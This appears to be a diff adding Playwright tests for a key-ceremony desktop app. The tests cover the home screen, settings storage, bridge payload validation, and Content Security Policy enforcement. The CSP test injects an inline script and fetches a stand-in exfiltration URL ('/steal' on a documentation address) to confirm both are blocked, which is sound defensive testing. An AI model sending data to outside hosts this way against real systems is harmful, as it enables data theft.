@@ -1,0 +1,73 @@
+import { readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { expect, test } from './fixtures'
+
+test('the home screen shows the app, its mode and the not-yet-available entry points', async ({ page, harness, networkLog }) => {
+  await page.goto(harness.url)
+  await expect(page.getByRole('heading', { name: 'DSM Key Ceremony' })).toBeVisible()
+  await expect(page.getByTestId('mode-badge')).toHaveText('PRODUCTION')
+  await expect(page.getByRole('button', { name: 'Open ceremony plan…' })).toBeDisabled()
+  await expect(page.getByRole('button', { name: 'Start a rehearsal' })).toBeDisabled()
+  await expect(page.getByText('Not yet available in this build.')).toBeVisible()
+  await page.screenshot({ path: 'test-results/screens/home.png' })
+  const origin = new URL(harness.url).origin
+  expect(networkLog.filter((url) => !url.startsWith(origin))).toEqual([])
+})
+
+test('a settings change goes through the real main handler into the store file', async ({ page, harness }) => {
+  await page.goto(harness.url)
+  await page.getByLabel('Operator name').fill('Alex Operator')
+  await page.getByRole('button', { name: 'Save' }).click()
+  await expect(page.getByRole('status')).toHaveText('Saved.')
+  await page.getByRole('radio', { name: '150%' }).check()
+  await expect(page.getByRole('radio', { name: '150%' })).toBeChecked()
+
+  const saved = JSON.parse(readFileSync(join(harness.userData, 'config.json'), 'utf8'))
+  expect(saved).toMatchObject({ operatorName: 'Alex Operator', textScale: 150 })
+
+  // A fresh page reads it back from main.
+  await page.reload()
+  await expect(page.getByLabel('Operator name')).toHaveValue('Alex Operator')
+  await expect(page.getByRole('radio', { name: '150%' })).toBeChecked()
+})
+
+test('the bridge rejects an off-contract payload with a named error', async ({ page, harness }) => {
+  await page.goto(harness.url)
+  const result = await page.evaluate(() => window.ceremony!.updateSettings({ textScale: 999 }))
+  expect(result).toMatchObject({ ok: false, error: { code: 'INVALID_PAYLOAD' } })
+  const extra = await page.evaluate(() => (window.ceremony!.updateSettings as (r: unknown) => Promise<unknown>)({ apiKey: 'x' }))
+  expect(extra).toMatchObject({ ok: false, error: { code: 'INVALID_PAYLOAD' } })
+  // The bridge exposes exactly the contract's names, and nothing to reach ipcRenderer.
+  const keys = await page.evaluate(() => Object.keys(window.ceremony!).sort())
+  expect(keys).toEqual(['appInfo', 'getSettings', 'onSettingsChanged', 'updateSettings'])
+})
+
+test('the CSP blocks an injected inline script and a fetch to a network address', async ({ page, harness }) => {
+  const violations: string[] = []
+  page.on('console', (msg) => {
+    if (/Content Security Policy/i.test(msg.text())) violations.push(msg.text())
+  })
+  await page.goto(harness.url)
+  await expect(page.getByTestId('mode-badge')).toBeVisible()
+
+  const ran = await page.evaluate(async () => {
+    const s = document.createElement('script')
+    s.textContent = 'window.__injected = true'
+    document.head.appendChild(s)
+    await new Promise((r) => setTimeout(r, 50))
+    return (window as unknown as { __injected?: boolean }).__injected === true
+  })
+  expect(ran).toBe(false)
+
+  const fetched = await page.evaluate(async () => {
+    try {
+      await fetch('http://192.0.2.10/steal', { mode: 'no-cors' })
+      return 'reached'
+    } catch (err) {
+      return String(err)
+    }
+  })
+  expect(fetched).toMatch(/Failed to fetch|TypeError/)
+  expect(violations.some((v) => v.includes('script'))).toBe(true)
+  expect(violations.some((v) => v.includes('connect-src'))).toBe(true)
+})
